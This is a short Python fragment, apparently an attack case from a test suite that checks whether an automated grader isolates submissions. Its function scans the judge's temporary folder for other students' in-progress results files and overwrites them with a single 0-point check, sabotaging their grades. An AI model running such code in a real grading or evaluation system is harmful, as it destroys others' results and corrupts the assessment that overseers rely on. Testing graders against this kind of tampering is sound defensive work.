# Other students: rewrite a classmate's temporary results while she is being graded. For up to
# 10 s, look in the grading's temporary folder (ATTACK["scan"]: where the judge keeps them) for
# results files that are not ours, and put a plan of one 0-point check at their top.
def _sabotage():
    import glob
    import time

    mine = set(open_files())
    sabotaged = set()
    end = time.monotonic() + 10
    while time.monotonic() < end and not sabotaged:
        for path in glob.glob(_os.path.join(ATTACK["scan"], "**", "*.jsonl"), recursive=True)[:20]:
            if path in mine:
                continue
            try:
                with open(path, encoding="utf-8") as results:
                    text = results.read()
                if '"plan"' not in text or '"done"' in text:
                    continue
                plan = {"event": "plan", "checks": [{"name": "sabotaged", "doc": "Sabotaged.", "points": 0}]}
                with open(path, "w", encoding="utf-8") as results:
                    results.write(_json.dumps(plan) + "\n")
                sabotaged.add(path)
            except OSError:
                pass
        time.sleep(0.02)
    return "rewrote " + " ".join(sorted(sabotaged)) if sabotaged else None


answer(attack_once("sabotage", _sabotage))
